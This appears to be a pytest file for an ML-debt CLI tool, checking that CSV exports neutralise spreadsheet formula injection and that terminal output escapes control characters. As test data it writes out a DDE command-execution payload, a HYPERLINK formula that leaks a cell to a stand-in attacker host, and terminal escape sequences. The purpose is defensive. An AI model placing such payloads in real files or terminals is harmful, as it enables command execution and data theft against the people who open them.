"""Text written by someone else through the CLI: no formula cell in `--format csv`, no control character on the
terminal."""

import csv
import io
import json
from datetime import datetime, timedelta

from mldebt_core.logs.table import create_log_table
from mldebt_core.store import Store, ingest_scan
from mldebt_core.text_safety import FORMULA_STARTS
from tests.conftest import DEMO_SCAN, run
from tests.test_text_safety import OWASP_PAYLOADS

ESCAPES = "\x1b[2J\x1b]0;pwned\x07\r"
"""clear the screen, retitle the terminal, ring the bell, go back to the start of the line"""


def cells(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []


def test_debts_as_csv_neutralise_hostile_messages_owners_and_notes(sample_db, capsys):
    document = json.loads(DEMO_SCAN.read_text())
    for finding, payload in zip(document["findings"], OWASP_PAYLOADS):
        finding["message"] = payload
    with Store(sample_db) as store:
        ingest_scan(store, json.dumps(document).encode(), "hostile.json", system="hostile")
    finding_id = document["findings"][0]["id"]
    code, _, err = run(["--db", sample_db, "triage", finding_id, "--system", "hostile", "--status", "accepted",
                        "--owner", "=cmd|' /C calc'!A0", "--note", "@SUM(1,1)"], capsys)
    assert code == 0, err
    code, out, err = run(["--db", sample_db, "debts", "--system", "hostile", "--all", "--format", "csv"], capsys)
    assert code == 0, err
    rows = cells(out)
    assert_no_formula(rows)
    table = [dict(zip(rows[0], row)) for row in rows[1:]]
    assert {"'" + payload for payload in OWASP_PAYLOADS} <= {row["message"] for row in table}
    triaged = next(row for row in table if row["finding_id"] == finding_id)
    assert (triaged["owner"], triaged["note"]) == ("'=cmd|' /C calc'!A0", "'@SUM(1,1)")


def test_drift_as_csv_neutralises_a_hostile_column_name_and_categories(tmp_path, capsys):
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    db = tmp_path / "m.duckdb"
    with Store(db) as store, store.transaction() as cursor:
        schema = create_log_table(cursor, "churn", [(hostile, "categorical"), ("-age", "numeric")])
        rows = [(datetime(2026, 3, 2) + timedelta(hours=k), "m", 0.5, 1.0, OWASP_PAYLOADS[k % 3], -k / 10)
                for k in range(24 * 9)]
        cursor.executemany(f"INSERT INTO {schema.table} (file_id, ts, model, prediction, label, f_0, f_1) "
                           "VALUES (1, ?, ?, ?, ?, ?, ?)", rows)
    code, out, err = run(["--db", str(db), "drift", "--system", "churn", "--format", "csv"], capsys)
    assert code == 0, err
    rows = cells(out)
    assert_no_formula(rows)
    columns = {row[rows[0].index("column")] for row in rows[1:]}
    assert {"'" + hostile, "'-age", "prediction"} <= columns


def test_errors_and_closing_lines_show_control_characters_visibly(tmp_path, capsys):
    code, _, err = run(["--db", str(tmp_path / "m.duckdb"), "drift", "--system", f"x{ESCAPES}"], capsys)
    assert code == 2
    assert "\x1b" not in err and "\r" not in err and "\x07" not in err
    assert "x\\x1b[2J\\x1b]0;pwned\\x07\\x0d" in err and err.count("\n") == 1


def test_a_scan_summary_shows_hostile_artifact_paths_visibly(make_repo, capsys):
    """A path written as a string literal in the scanned code reaches the findings' messages as it is."""
    from tests.commands.test_scans import SCORE, TRAIN

    hostile = "data/p\\x1b[2J\\r.csv"  # in the scanned code: a string literal with an ESC and a CR
    root = make_repo({name: code.replace("data/predictions.csv", hostile)
                      for name, code in (("train.py", TRAIN), ("score.py", SCORE))})
    code, out, err = run(["scan", str(root), "--system", "churn", "--format", "summary"], capsys)
    assert code == 0, err
    assert "data/p\\x1b[2J\\x0d.csv (prediction) flows back" in out and "\x1b" not in out and "\r" not in out
